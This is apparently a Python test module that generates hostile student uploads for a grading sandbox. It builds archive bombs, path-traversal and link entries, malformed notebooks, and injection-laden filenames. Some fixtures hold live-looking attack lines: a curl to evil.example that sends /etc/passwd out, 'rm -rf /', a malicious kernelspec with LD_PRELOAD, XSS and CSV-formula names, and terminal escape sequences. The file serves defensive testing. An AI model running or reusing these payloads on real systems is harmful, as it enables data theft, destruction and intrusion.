"""Uploads that git could not hold: bombs, devices, 200 MB, names that no disk would take."""

from __future__ import annotations

import base64
import stat
import struct
import tarfile
from collections.abc import Callable, Mapping
from typing import Any

from tests.assignments.uploads import (
    code,
    code3,
    markdown,
    notebook,
    notebook3,
    overlapping,
    special,
    tarred,
    with_flag,
    zip_entry,
    zipped,
)
from tests.hostile.entries import HONEST, SUBMISSIONS
from tests.web.rendering.hostile import FRAGMENTS, KINDS

Files = dict[str, bytes]

WORK = (SUBMISSIONS / HONEST / "work.py").read_bytes()
TEXT = WORK.decode()
MEGABYTE = 1_000_000
ESCAPES = "\x1b[2J\x1b]52;c;cm0gLXJm\x07\x1b]8;;https://evil.example\x07"
"""Clears a terminal, writes its clipboard, makes a link."""


def beside(name: str) -> Files:
    """The honest file, and a text with this name."""
    return {"work.py": WORK, name: b"hello\n"}


def packed(*entries: tuple[tarfile.TarInfo | str, bytes]) -> Files:
    """A tar.gz of the honest file and these entries."""
    return {"work.tar.gz": tarred([("work.py", WORK), *entries])}


def book(*more: dict[str, Any], outputs: list[Any] | None = None, **fields: Any) -> Files:
    """The honest file as a notebook, and these cells."""
    return {"work.ipynb": notebook(code(TEXT, outputs=outputs or []), *more, **fields)}


def central_entries(number: int) -> bytes:
    """A zip whose directory names one empty file so many times."""
    archive = zipped({"x": b""})
    start, end = archive.index(b"PK\x01\x02"), archive.index(b"PK\x05\x06")
    entry = archive[start:end]
    size, count = len(entry) * number, min(number, 0xFFFF)
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, size, start, 0)
    return archive[:start] + entry * number + tail


def displayed(kind: str, fragment: str) -> dict[str, Any]:
    """An output that shows one fragment."""
    return {"output_type": "display_data", "data": {kind: fragment}, "metadata": {}}


def hostile_notebook() -> bytes:
    """Every fragment that was written to break a page, in each place where a notebook has text."""
    shown = [displayed(kind, fragment) for kind in KINDS for fragment in FRAGMENTS]
    said = [{"output_type": "stream", "name": "stdout", "text": each} for each in FRAGMENTS]
    failed = {"output_type": "error", "ename": "<b>", "evalue": "", "traceback": FRAGMENTS}
    return notebook(
        code(TEXT, outputs=[*shown, *said, failed]),
        *[markdown(fragment) for fragment in FRAGMENTS],
        code("\n".join(f"# {f!a}" for f in FRAGMENTS)),
        metadata={"title": FRAGMENTS[0], "kernelspec": {"display_name": FRAGMENTS[1]}},
    )


EVIL_KERNEL = {
    "kernelspec": {
        "name": "../../evil",
        "language": "bash",
        "argv": ["/bin/sh", "-c", "touch /tmp/sandglass-hostile-canary"],
        "env": {"LD_PRELOAD": "/tmp/evil.so"},
    },
    "language_info": {"name": "bash", "nbconvert_exporter": "os.system"},
    "widgets": {"state": "x" * 1000},
}

CRAFTED: Mapping[str, Callable[[], Files]] = {
    "85_zip_bomb": lambda: {"work.zip": zipped({"work.py": b"\0" * 300 * MEGABYTE})},
    "85b_gzip_bomb": lambda: {"work.tgz": tarred([("work.py", b"\0" * 100 * MEGABYTE)])},
    "85c_overlapping_zip": lambda: {"work.zip": overlapping("work.py", "note.py", WORK)},
    "85d_nested_zip": lambda: {"work.zip": zipped({"inner.zip": zipped({"work.py": WORK})})},
    "86_zip_1e6_entries": lambda: {"work.zip": central_entries(1_000_000)},
    "86b_zip_1e5_entries": lambda: {"work.zip": central_entries(100_000)},
    "87_zip_slip": lambda: {
        "work.zip": zipped({"work.py": WORK, "../../../../tmp/sandglass-hostile-canary": b"x"})
    },
    "87b_zip_absolute": lambda: {
        "work.zip": zipped({"work.py": WORK, "/tmp/sandglass-hostile-canary": b"x"})
    },
    "88_tar_symlink_out": lambda: packed(
        (special("out", tarfile.SYMTYPE, "/tmp"), b""), ("out/sandglass-hostile-canary", b"x")
    ),
    "89_tar_hardlink": lambda: packed((special("notes.txt", tarfile.LNKTYPE, "/etc/passwd"), b"")),
    "90_device_entry": lambda: packed((special("null", tarfile.CHRTYPE), b"")),
    "90b_pipe_in_zip": lambda: {"work.zip": zip_entry("work.py", mode=stat.S_IFIFO | 0o666)},
    "91_name_unicode_rtl": lambda: {
        "work.zip": zipped({"work.py": WORK, "notes\u202egpj.py": b"x = 1\n"})
    },
    "92_name_255_bytes": lambda: {"work.zip": zipped(beside("n" * 251 + ".txt"))},
    "92b_name_256_bytes": lambda: {"work.zip": zipped(beside("n" * 252 + ".txt"))},
    "93_case_collision": lambda: {"work.zip": zipped({"work.py": WORK, "WORK.py": b"x = 1\n"})},
    "94_encrypted_zip": lambda: {"work.zip": with_flag(zipped({"work.py": WORK}), 1)},
    "95_nb_huge": lambda: {"work.ipynb": b'{"cells": "' + b"x" * 200 * MEGABYTE + b'"}'},
    "95b_nb_large_outputs": lambda: book(
        outputs=[displayed("image/png", base64.b64encode(bytes(3_600_000)).decode())]
    ),
    "96_nb_deep_json": lambda: {
        "work.ipynb": b'{"nbformat": 4, "cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    },
    "97_nb_not_json": lambda: {"work.ipynb": b"%PDF-1.7 saved under the wrong name"},
    "98_nb_no_cells": lambda: {"work.ipynb": notebook(cells=[])},
    "99_nb_v3": lambda: {"work.ipynb": notebook3(code3(TEXT))},
    "100_nb_dup_ids": lambda: book(code("more = 1"), code("more = 2"), markdown("text")),
    "101_nb_magics": lambda: book(
        code("!curl https://evil.example/$(cat /etc/passwd)"),
        code("%%bash\nrm -rf /"),
        code("%load_ext autoreload\n%timeit slug('a')\nfiles = !ls"),
        code("?slug"),
    ),
    "101b_nb_input": lambda: book(code("name = input('Who are you? ')")),
    "102_nb_kernelspec_evil": lambda: book(metadata=EVIL_KERNEL),
    "103_nb_xss_outputs": lambda: {"work.ipynb": hostile_notebook()},
    "105_py_bom_latin1": lambda: {"work.py": b"\xef\xbb\xbf# caf\xe9\n" + WORK},
    "105b_py_latin1": lambda: {"work.py": b"# -*- coding: latin-1 -*-\n# caf\xe9\n" + WORK},
    "105c_py_utf16": lambda: {"work.py": TEXT.encode("utf-16")},
    "106_py_nul_byte": lambda: {"work.py": WORK + b"x = 'a\0b'\n"},
    "107_py_parser_bomb": lambda: {"work.py": WORK + b"x = " + b"(" * 90 + b"-" * 900_000},
    "107b_py_deep_brackets": lambda: {"work.py": WORK + b"x = " + b"[" * 100_000},
    "107d_py_2_mb": lambda: {"work.py": WORK + b"x = [" + b"0," * MEGABYTE + b"]\n"},
    "107c_py_constant_bomb": lambda: {"work.py": WORK + b"x = ((1 << 10**9) + 1) ** 9\n"},
    "108_wrong_filename": lambda: {"Work (1).py": WORK},
    "115_csv_name": lambda: beside("=cmd|' /C calc'!A0.txt"),
    "116_html_name": lambda: beside('"><img src=x onerror=alert(1)>.txt'),
    "117_ansi_name": lambda: {"work.zip": zipped(beside(f"notes{ESCAPES}.txt"))},
    "117b_ansi_name_in_form": lambda: beside("notes\x1b[2J\x1b]0;title\x07.txt"),
}
